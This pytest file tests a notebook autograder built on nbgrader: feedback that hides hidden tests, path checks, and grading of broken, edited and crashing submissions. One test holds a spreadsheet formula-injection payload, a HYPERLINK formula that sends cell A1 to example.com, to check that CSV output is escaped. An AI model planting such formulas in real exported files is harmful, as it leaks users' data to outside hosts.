"""The grading pipeline (autograder/grade.py, autograder/course.py's nbgrader settings).

The slow tests grade real notebooks with nbgrader: a toy assignment (tests/fixtures/toy_course) that has every case
we care about, and every real chapter at once, with three learners built from its notebooks and its catalogue.
"""

from __future__ import annotations

import copy
import csv
from pathlib import Path

import nbformat
import pytest

from grading_support import (
    REPO_ROOT, TOY_CHAPTER, TOY_NOTEBOOK, TOY_SOLUTIONS, drop, fill, hidden_lines, html_text, make_release, meta,
    points_of_tests, read, run_module, set_source, solution_sources, tree_hashes, write,
)
from autograder import catalogue
from autograder import grade as grade_module
from autograder.release import METADATA_KEY
from autograder.course import (
    HIDDEN_TESTS_PLACEHOLDER, STDERR_MARK, HideHiddenTests, chapters, grading_config, split_hidden_tests,
    stderr_to_stdout,
)

def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def by_student(rows: list[dict]) -> dict[str, dict]:
    return {row["student"]: row for row in rows}


# --------------------------------------------------------------------------------------------------------------------
# Fast: the configuration and our preprocessors, on hand-made cells
# --------------------------------------------------------------------------------------------------------------------


def test_grading_config_sets_the_dangerous_defaults(tmp_path):
    from nbgrader.preprocessors import Execute

    c = grading_config(tmp_path, timeout=123)
    assert c.Execute.timeout == 123 and c.Execute.interrupt_on_timeout
    assert c.Execute.error_on_timeout["ename"] == "CellTimeoutError"
    pps = c.Autograde.autograde_preprocessors
    assert pps[pps.index(Execute) + 1].__name__ == "StderrToStdout"
    assert c.OverwriteCells.add_missing_cells is True
    assert "RestoreMissingCells" in [p.__name__ for p in c.Autograde.sanitize_preprocessors]
    assert c.GenerateFeedback.preprocessors[0] is HideHiddenTests
    assert c.CourseDirectory.db_url == f"sqlite:///{tmp_path / 'gradebook.db'}"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(tmp_path):
    from autograder.report import write_grades, write_problems
    from autograder.submissions import Problem, Submission

    evil = '=HYPERLINK("http://example.com/?"&A1,"click")'
    subs = [Submission(evil, "toy", status="graded", score=1.0, max_score=2.0, remarks=["-1 point", "@SUM(A1)"]),
            Submission("ada", "toy", status="graded", score=2.0, max_score=2.0)]
    write_grades(tmp_path / "grades.csv", subs, ["toy"], {"toy": []})
    write_problems(tmp_path / "problems.csv", [Problem(evil, "toy", "+cmd", "=1+1", "-do nothing")])
    grades = read_csv(tmp_path / "grades.csv")
    assert grades[0]["student"] == "'" + evil and grades[0]["remarks"] == "'-1 point; @SUM(A1)"
    assert grades[1]["student"] == "ada" and grades[0]["score"] == "1"
    (row,) = read_csv(tmp_path / "problems.csv")
    assert all(value.startswith("'") for key, value in row.items() if key not in ("chapter", "graded"))


def test_stderr_becomes_marked_stdout():
    cell = nbformat.v4.new_code_cell("f()")
    cell.outputs = [nbformat.v4.new_output("stream", name="stderr", text="x.py:1: UserWarning: careful\n  f()\n")]
    assert stderr_to_stdout(cell)
    (out,) = cell.outputs
    assert out.name == "stdout" and out.text == f"{STDERR_MARK}x.py:1: UserWarning: careful\n{STDERR_MARK}  f()\n"


def test_hidden_region_is_replaced_with_a_placeholder():
    source = "assert f(1) == 1\n### BEGIN HIDDEN TESTS\nsecret = 42\nassert f(secret) == 42\n### END HIDDEN TESTS\nok()"
    shown, hidden = split_hidden_tests(source)
    assert shown == f"assert f(1) == 1\n{HIDDEN_TESTS_PLACEHOLDER}\nok()"
    assert hidden == ["secret = 42", "assert f(secret) == 42"]


def test_hide_hidden_tests_keeps_the_message_and_drops_the_traceback():
    cell = nbformat.v4.new_code_cell(
        'assert f(1) == 1\n### BEGIN HIDDEN TESTS\nassert f(99) == 99, "f is wrong for large inputs"\n'
        "### END HIDDEN TESTS")
    cell.outputs = [
        nbformat.v4.new_output("stream", name="stdout",
                               text='[stderr] x.py:3: UserWarning\n'
                                    '[stderr]   assert f(99) == 99, "f is wrong for large inputs"\nkept\n'),
        nbformat.v4.new_output("error", ename="AssertionError", evalue="f is wrong for large inputs",
                               traceback=["----> 3 assert f(99) == 99, \"f is wrong for large inputs\"",
                                          "AssertionError: f is wrong for large inputs"]),
    ]
    HideHiddenTests().preprocess_cell(cell, {}, 0)
    assert "f(99)" not in cell.source and HIDDEN_TESTS_PLACEHOLDER in cell.source
    stream, error = cell.outputs
    assert "f(99)" not in stream.text and "kept" in stream.text
    assert error.traceback[0] == "AssertionError: f is wrong for large inputs"
    assert not any("f(99)" in line for line in error.traceback)


# --------------------------------------------------------------------------------------------------------------------
# Fast: bad input is refused with a clear message, before anything is run or written
# --------------------------------------------------------------------------------------------------------------------


def _grade(capsys, *argv) -> tuple[int, str]:
    code = grade_module.main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out + out.err


def test_workspace_inside_the_repository_is_refused(tmp_path, capsys):
    (tmp_path / "subs" / "alice").mkdir(parents=True)
    workspace = REPO_ROOT / "grading-workspace-should-not-exist"
    code, out = _grade(capsys, tmp_path / "subs", "--workspace", workspace, "--solutions", TOY_SOLUTIONS)
    assert code == 2
    assert "inside the course repository" in out and "outside" in out
    assert not workspace.exists()


def test_workspace_inside_the_submissions_is_refused(tmp_path, capsys):
    (tmp_path / "subs" / "alice" / TOY_CHAPTER).mkdir(parents=True)
    before = tree_hashes(tmp_path / "subs")
    code, out = _grade(capsys, tmp_path / "subs", "--workspace", tmp_path / "subs" / "ws", "--solutions",
                       TOY_SOLUTIONS)
    assert code == 2 and "overlap" in out
    assert not (tmp_path / "subs" / "ws").exists() and tree_hashes(tmp_path / "subs") == before


def test_a_foreign_non_empty_workspace_is_refused(tmp_path, capsys):
    (tmp_path / "subs" / "alice" / TOY_CHAPTER).mkdir(parents=True)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.tex").write_text("precious")
    code, out = _grade(capsys, tmp_path / "subs", "--workspace", tmp_path / "mine", "--solutions", TOY_SOLUTIONS)
    assert code == 2 and "not empty" in out
    assert sorted(p.name for p in (tmp_path / "mine").iterdir()) == ["thesis.tex"]


def test_missing_submissions_folder_is_explained(tmp_path, capsys):
    code, out = _grade(capsys, tmp_path / "nope", "--workspace", tmp_path / "ws", "--solutions", TOY_SOLUTIONS)
    assert code == 2 and "does not exist" in out and "<student>/<chapter>/<notebook>.ipynb" in out


def test_one_students_folder_instead_of_the_submissions_folder_is_explained(tmp_path, capsys):
    (tmp_path / "alice" / TOY_CHAPTER).mkdir(parents=True)
    code, out = _grade(capsys, tmp_path / "alice", "--workspace", tmp_path / "ws", "--solutions", TOY_SOLUTIONS)
    assert code == 2 and "ONE" in out and "student's folder" in out


def test_unknown_chapter_option_is_explained(tmp_path, capsys):
    (tmp_path / "subs" / "alice" / TOY_CHAPTER).mkdir(parents=True)
    code, out = _grade(capsys, tmp_path / "subs", "--workspace", tmp_path / "ws", "--solutions", TOY_SOLUTIONS,
                       "--chapter", "ch99")
    assert code == 2 and "Unknown chapter 'ch99'" in out and TOY_CHAPTER in out


# --------------------------------------------------------------------------------------------------------------------
# Slow: grading the toy assignment, one run over every kind of submission
# --------------------------------------------------------------------------------------------------------------------

TOY_TIMEOUT = 5  # seconds per cell in the toy run: the toy's cells take milliseconds; "loop" never ends


@pytest.fixture(scope="module")
def toy(tmp_path_factory):
    """The toy assignment's notebooks: solution (instructor), release (student), and its test points."""
    root = tmp_path_factory.mktemp("toy_release")
    release = make_release(TOY_SOLUTIONS, TOY_CHAPTER, root)
    solution = read(TOY_NOTEBOOK)
    return {"solution": solution, "release": read(release), "points": points_of_tests(solution),
            "sources": solution_sources(solution)}


def toy_submissions(toy, folder: Path) -> Path:
    """SUBMISSIONS/<student>/toy/toy.ipynb for every case the grading must handle."""
    release, sources = toy["release"], toy["sources"]
    correct = fill(release, sources)
    nbs = {
        "correct": correct,  # the reference answer; `mean([])` warns on stderr
        "stub": release,
        "deleted_test": drop(correct, "test_mean"),
        "deleted_pair": drop(correct, "double", "test_double"),  # nbgrader 0.9.6 itself raises KeyError here
        "edited_test": set_source(fill(release, {**sources, "double": "def double(x):\n    return x * 3"}),
                                  "test_double", "assert True  # I made the test pass"),
        "hidden_fail": fill(release, {**sources, "mean": (
            "def mean(xs):\n    if not xs:\n        warnings.warn('empty', stacklevel=2)\n        return 0.0\n"
            "    return (xs[0] + xs[-1]) / 2")}),
        "crash": fill(release, {**sources, "mean": "import os\ndef mean(xs):\n    os._exit(1)"}),
        "loop": fill(release, {**sources, "double": "def double(x):\n    while True:\n        pass"}),
        "old_release": from_release(correct, "sha256:" + "0" * 64),  # made from another version of the exercises
    }
    for student, nb in nbs.items():
        write(nb, folder / student / TOY_CHAPTER / "toy.ipynb")
    (folder / "broken" / TOY_CHAPTER).mkdir(parents=True)
    (folder / "broken" / TOY_CHAPTER / "toy.ipynb").write_text('{"cells": [{"cell_type": "code", "sour')
    write(correct, folder / "misnamed" / TOY_CHAPTER / "toy (1).ipynb")
    (folder / "no_chapter" / "notes").mkdir(parents=True)
    return folder


def from_release(nb, version: str):
    """A copy of ``nb`` that carries ``version`` as the student notebooks do (autograder.generate writes it)."""
    nb = copy.deepcopy(nb)
    nb.metadata[METADATA_KEY] = {"chapter": TOY_CHAPTER, "assignment_version": version}
    return nb


@pytest.fixture(scope="module")
def toy_run(toy, tmp_path_factory):
    base = tmp_path_factory.mktemp("toy_grading")
    submissions = toy_submissions(toy, base / "submissions")
    before = tree_hashes(submissions)
    workspace = base / "workspace"
    proc = run_module("autograder.grade", submissions, "--workspace", workspace, "--solutions", TOY_SOLUTIONS,
                      "--timeout", TOY_TIMEOUT)
    grades = by_student(read_csv(workspace / "grades.csv")) if (workspace / "grades.csv").exists() else {}
    problems = read_csv(workspace / "problems.csv") if (workspace / "problems.csv").exists() else []
    return {"proc": proc, "submissions": submissions, "before": before, "workspace": workspace, "grades": grades,
            "problems": problems}


def graded_cell(workspace: Path, student: str, grade_id: str):
    nb = read(workspace / "autograded" / student / TOY_CHAPTER / "toy.ipynb")
    (cell,) = [c for c in nb.cells if meta(c).get("grade_id") == grade_id]
    return cell


def score(run, student) -> float:
    row = run["grades"][student]
    assert row["status"] == "graded", (row, run["proc"].stdout)
    return float(row["score"])


@pytest.mark.slow
def test_toy_run_finishes_and_says_what_went_wrong(toy_run):
    proc = toy_run["proc"]
    assert proc.returncode == 1, proc.stdout + proc.stderr  # 1: some submissions have problems
    assert "Summary" in proc.stdout and "Traceback" not in proc.stdout + proc.stderr


@pytest.mark.slow
def test_correct_answer_gets_full_marks_even_though_it_warns(toy_run, toy):
    assert score(toy_run, "correct") == sum(toy["points"].values())
    cell = graded_cell(toy_run["workspace"], "correct", "test_mean")
    text = "".join(o.get("text", "") for o in cell.outputs)
    assert "UserWarning" in text and STDERR_MARK in text  # the warning is still shown, as stdout
    assert not any(o.get("name") == "stderr" for o in cell.outputs)
    assert float(toy_run["grades"]["correct"]["toy/test_mean"]) == toy["points"]["test_mean"]


@pytest.mark.slow
def test_a_submission_from_another_release_is_graded_and_noted(toy_run, toy):
    assert score(toy_run, "old_release") == sum(toy["points"].values())
    (row,) = [p for p in toy_run["problems"] if p["student"] == "old_release"]
    assert row["graded"] == "yes" and "000000000000" in row["problem"] and "release" in row["problem"], row
    assert all(p["student"] != "correct" for p in toy_run["problems"]), "the current release needs no note"


@pytest.mark.slow
def test_stub_scores_zero(toy_run):
    assert score(toy_run, "stub") == 0


@pytest.mark.slow
def test_deleted_test_cell_is_restored_and_graded(toy_run, toy):
    assert score(toy_run, "deleted_test") == sum(toy["points"].values())
    cell = graded_cell(toy_run["workspace"], "deleted_test", "test_mean")
    assert "BEGIN HIDDEN TESTS" in cell.source  # the full test, hidden part included, ran


@pytest.mark.slow
def test_deleted_solution_and_test_cells_are_graded_without_crashing(toy_run, toy):
    assert score(toy_run, "deleted_pair") == toy["points"]["test_mean"]
    graded_cell(toy_run["workspace"], "deleted_pair", "test_double")  # restored, ran, failed (double is gone)


@pytest.mark.slow
def test_edited_test_cell_is_graded_with_the_original(toy_run, toy):
    assert score(toy_run, "edited_test") == toy["points"]["test_mean"]
    cell = graded_cell(toy_run["workspace"], "edited_test", "test_double")
    assert "I made the test pass" not in cell.source
    assert cell.source == next(c.source for c in toy["solution"].cells if meta(c).get("grade_id") == "test_double")


@pytest.mark.slow
def test_hidden_test_failure_costs_the_points(toy_run, toy):
    assert score(toy_run, "hidden_fail") == toy["points"]["test_double"]


@pytest.mark.slow
def test_feedback_reveals_no_hidden_test(toy_run, toy):
    secrets = hidden_lines(toy["solution"])
    assert len(secrets) >= 4
    feedback = sorted((toy_run["workspace"] / "feedback").rglob("*.html"))
    students = {p.parent.parent.name for p in feedback}
    assert {"correct", "stub", "hidden_fail", "deleted_test", "edited_test", "loop"} <= students
    for page in feedback:
        raw = page.read_text(encoding="utf-8")
        text = html_text(raw)
        for secret in secrets:
            assert secret not in text and secret not in raw, f"{page}: shows the hidden line {secret!r}"
        assert "BEGIN HIDDEN TESTS" not in raw and "hidden_mean_values" not in raw and "hidden_double" not in raw
        assert HIDDEN_TESTS_PLACEHOLDER in text
    failing = html_text((toy_run["workspace"] / "feedback" / "hidden_fail" / TOY_CHAPTER / "toy.html").read_text())
    assert "AssertionError" in failing
    assert "mean of an uneven list is wrong" in failing  # the hidden test's message is meant to be read
    assert "Traceback" not in failing and "---->" not in failing


@pytest.mark.slow
def test_timeout_is_reported_not_silent(toy_run, toy):
    assert score(toy_run, "loop") == toy["points"]["test_mean"]
    row = toy_run["grades"]["loop"]
    assert "timeout" in row["remarks"]
    assert any(p["student"] == "loop" and "interrupted" in p["problem"] for p in toy_run["problems"])


@pytest.mark.slow
def test_kernel_crash_costs_only_the_crashing_cell(toy_run, toy):
    # `mean` calls os._exit: its test cell kills the kernel. The worker neutralises that cell and runs the notebook
    # again, so `double` keeps its points and the learner still gets feedback.
    assert score(toy_run, "crash") == toy["points"]["test_double"]
    assert "kernel crash" in toy_run["grades"]["crash"]["remarks"]
    assert any(p["student"] == "crash" and "crashed the Python kernel" in p["problem"] for p in toy_run["problems"])
    cell = graded_cell(toy_run["workspace"], "crash", "test_mean")
    assert [o["ename"] for o in cell.outputs if o["output_type"] == "error"] == ["CellKilledByGrader"]
    assert (toy_run["workspace"] / "feedback" / "crash" / TOY_CHAPTER / "toy.html").is_file()


@pytest.mark.slow
def test_malformed_notebook_is_reported_and_the_others_graded(toy_run):
    assert toy_run["grades"]["broken"]["status"] == "malformed"
    (problem,) = [p for p in toy_run["problems"] if p["student"] == "broken"]
    assert "not valid notebook JSON" in problem["problem"] and problem["graded"] == "no"
    assert "broken" in toy_run["proc"].stdout
    assert toy_run["grades"]["correct"]["status"] == "graded"


@pytest.mark.slow
def test_wrong_notebook_name_is_reported_with_the_expected_name(toy_run):
    assert toy_run["grades"]["misnamed"]["status"] == "wrong name"
    (problem,) = [p for p in toy_run["problems"] if p["student"] == "misnamed"]
    assert "toy (1).ipynb" in problem["problem"] and "toy.ipynb" in problem["what_to_do"]


@pytest.mark.slow
def test_student_without_the_chapter_is_listed(toy_run):
    assert toy_run["grades"]["no_chapter"]["status"] == "missing"
    assert any(p["student"] == "no_chapter" and p["chapter"] == TOY_CHAPTER for p in toy_run["problems"])


@pytest.mark.slow
def test_every_submission_ends_graded_or_listed(toy_run):
    students = {p.name for p in toy_run["submissions"].iterdir()}
    assert set(toy_run["grades"]) == students
    listed = {p["student"] for p in toy_run["problems"] if p["graded"] == "no"}
    for student, row in toy_run["grades"].items():
        assert row["status"] == "graded" or student in listed, row


@pytest.mark.slow
def test_originals_are_untouched(toy_run):
    assert tree_hashes(toy_run["submissions"]) == toy_run["before"]


@pytest.mark.slow
def test_feedback_and_gradebook_are_in_the_workspace(toy_run):
    workspace = toy_run["workspace"]
    assert (workspace / "gradebook.db").is_file()
    assert (workspace / "feedback" / "correct" / TOY_CHAPTER / "toy.html").is_file()
    assert (workspace / "results" / "correct" / f"{TOY_CHAPTER}.json").is_file()
    assert (workspace / "autograded" / "correct" / TOY_CHAPTER / "toy.ipynb").is_file()
    assert (workspace / "report.html").is_file()


@pytest.mark.slow
def test_rerun_into_the_same_workspace_gives_the_same_result(toy, tmp_path):
    release, sources = toy["release"], toy["sources"]
    subs = tmp_path / "submissions"
    write(fill(release, sources), subs / "alice" / TOY_CHAPTER / "toy.ipynb")
    write(release, subs / "bob" / TOY_CHAPTER / "toy.ipynb")
    (subs / "carol" / TOY_CHAPTER).mkdir(parents=True)
    (subs / "carol" / TOY_CHAPTER / "toy.ipynb").write_text("not json")
    workspace = tmp_path / "workspace"
    args = (subs, "--workspace", workspace, "--solutions", TOY_SOLUTIONS)
    first = run_module("autograder.grade", *args)
    grades, problems = (workspace / "grades.csv").read_text(), (workspace / "problems.csv").read_text()
    second = run_module("autograder.grade", *args)
    assert first.returncode == second.returncode == 1, second.stdout + second.stderr
    assert (workspace / "grades.csv").read_text() == grades
    assert (workspace / "problems.csv").read_text() == problems
    rows = by_student(read_csv(workspace / "grades.csv"))
    assert float(rows["alice"]["score"]) == sum(toy["points"].values()) and float(rows["bob"]["score"]) == 0
    # bob fixes his notebook: the next run grades the new version, from the originals.
    write(fill(release, sources), subs / "bob" / TOY_CHAPTER / "toy.ipynb")
    third = run_module("autograder.grade", *args)
    assert float(by_student(read_csv(workspace / "grades.csv"))["bob"]["score"]) == sum(toy["points"].values())
    assert third.returncode == 1  # carol's notebook is still broken


@pytest.mark.slow
def test_broken_solution_notebook_is_reported_for_each_submission(toy, tmp_path):
    solutions = tmp_path / "solutions"
    nb = read(TOY_NOTEBOOK)
    (cell,) = [c for c in nb.cells if meta(c).get("grade_id") == "test_mean"]
    cell.metadata["nbgrader"]["grade_id"] = "test_double"  # two cells with one grade_id: nbgrader refuses it
    write(nb, solutions / TOY_CHAPTER / "toy.ipynb")
    write(toy["release"], tmp_path / "subs" / "alice" / TOY_CHAPTER / "toy.ipynb")
    proc = run_module("autograder.grade", tmp_path / "subs", "--workspace", tmp_path / "ws", "--solutions", solutions)
    assert proc.returncode == 1 and "could not prepare toy" in proc.stdout
    assert by_student(read_csv(tmp_path / "ws" / "grades.csv"))["alice"]["status"] == "chapter could not be prepared"
    assert (tmp_path / "ws" / "logs" / TOY_CHAPTER / "generate.log").is_file()


# --------------------------------------------------------------------------------------------------------------------
# Slow: every real chapter at once, three learners built from its notebooks
# --------------------------------------------------------------------------------------------------------------------


def first_wrong_implementations(chapter: str) -> dict[str, str]:
    """solution grade_id -> source of the first catalogued wrong implementation (empty if no catalogue)."""
    first: dict[str, str] = {}
    for record in catalogue.load(chapter):
        first.setdefault(record.grade_id, record.source)
    return first


def exercises_of(solution_nb) -> list[tuple[str, list[str]]]:
    """(solution grade_id, [its test cells' grade_ids]) in notebook order: the tests up to the next solution cell."""
    exercises: list[tuple[str, list[str]]] = []
    for cell in solution_nb.cells:
        if meta(cell).get("solution"):
            exercises.append((meta(cell)["grade_id"], []))
        elif meta(cell).get("grade") and exercises:
            exercises[-1][1].append(meta(cell)["grade_id"])
    return exercises


def add_chapter(subs: Path, chapter: str) -> dict:
    """Write the chapter's notebooks for three learners: `correct` (the reference code), `stub` (untouched) and
    `partial` (the last one or two exercises replaced by a catalogued mistake); return what each should score."""
    expected = {"correct": 0.0, "stub": 0.0, "partial": 0.0}
    solutions = sorted((REPO_ROOT / "solutions" / chapter).glob("*.ipynb"))
    for solution_path in solutions:
        solution = read(solution_path)
        release = read(REPO_ROOT / "exercises" / chapter / solution_path.name)
        points = points_of_tests(solution)
        exercises = exercises_of(solution)
        wrong = first_wrong_implementations(chapter)
        # The last exercises (up to two) with a catalogued mistake: nothing graded after them depends on them, so
        # every other exercise keeps exactly its points.
        broken = []
        for grade_id, _ in reversed(exercises):
            if grade_id not in wrong or len(broken) == 2:
                break
            broken.append(grade_id)
        assert broken, f"{chapter}: no catalogued mistake for its last exercise"
        sources = solution_sources(solution)
        write(fill(release, sources), subs / "correct" / chapter / solution_path.name)
        write(release, subs / "stub" / chapter / solution_path.name)
        write(fill(release, {**sources, **{g: wrong[g] for g in broken}}), subs / "partial" / chapter / solution_path.name)
        total = sum(points.values())
        expected["correct"] += total
        expected["partial"] += total - sum(points[t] for grade_id, tests in exercises if grade_id in broken
                                           for t in tests)
    return expected


@pytest.fixture(scope="module")
def course_run(tmp_path_factory):
    import time

    base = tmp_path_factory.mktemp("course")
    subs = base / "submissions"
    expected = {chapter: add_chapter(subs, chapter) for chapter in chapters()}
    before = tree_hashes(subs)
    start = time.perf_counter()
    # Two at a time, as an instructor on a 2-core box would (and the parallel path on every real chapter).
    proc = run_module("autograder.grade", subs, "--workspace", base / "workspace", "--jobs", "2")
    print(f"\ngraded 3 learners x {len(expected)} chapters in {time.perf_counter() - start:.1f} s")
    rows = read_csv(base / "workspace" / "grades.csv")
    return {"proc": proc, "scores": {(r["student"], r["chapter"]): r for r in rows}, "expected": expected,
            "subs": subs, "before": before, "workspace": base / "workspace"}


@pytest.mark.slow
def test_every_chapter_grades_to_the_expected_scores(course_run):
    proc = course_run["proc"]
    assert proc.returncode == 0, proc.stdout + proc.stderr
    for chapter, expected in course_run["expected"].items():
        for student, score in expected.items():
            row = course_run["scores"][(student, chapter)]
            assert row["status"] == "graded" and float(row["score"]) == score, (student, chapter, row)
        assert expected["correct"] > expected["partial"] > expected["stub"] == 0


@pytest.mark.slow
def test_no_feedback_reveals_a_hidden_test(course_run):
    pages = sorted((course_run["workspace"] / "feedback").rglob("*.html"))
    assert len(pages) == len(course_run["scores"])
    for page in pages:
        student, chapter = page.parent.parent.name, page.parent.name
        solution = read(REPO_ROOT / "solutions" / chapter / f"{page.stem}.ipynb")
        assert len(hidden_lines(solution)) > 10
        submitted = read(course_run["subs"] / student / chapter / f"{page.stem}.ipynb")
        secrets = hidden_lines(solution, submitted)  # the learner's own code is no secret
        raw = page.read_text(encoding="utf-8")
        text = html_text(raw)
        leaked = [s for s in secrets if s in text or s in raw]
        assert not leaked, f"{page} shows hidden test lines: {leaked[:3]}"


@pytest.mark.slow
def test_the_self_check_gives_the_graders_verdicts_on_catalogued_mistakes(course_run, tmp_path):
    """The learner's self-check runs the same referee without the sandbox: on each chapter's `partial` learner (its
    last exercises replaced by catalogued mistakes), with the course's tests, hidden ones included, every test cell
    passes or fails as it did when graded."""
    import json

    from autograder import check

    for chapter in course_run["expected"]:
        for submitted in sorted((course_run["subs"] / "partial" / chapter).glob("*.ipynb")):
            copy = tmp_path / chapter / submitted.name
            copy.parent.mkdir(parents=True)
            copy.write_bytes(submitted.read_bytes())
            checked = check.verdicts(copy, timeout=600, reference=REPO_ROOT / "solutions" / chapter / submitted.name,
                                     hidden_tests=True)
            result = json.loads((course_run["workspace"] / "results" / "partial" / f"{chapter}.json").read_text())
            graded = {t["name"]: t["status"] == "passed" for t in result["tests"] if t["notebook"] == submitted.stem}
            assert checked == graded and not all(graded.values()), (chapter, checked, graded)


@pytest.mark.slow
def test_grading_leaves_the_originals_untouched(course_run):
    assert tree_hashes(course_run["subs"]) == course_run["before"]
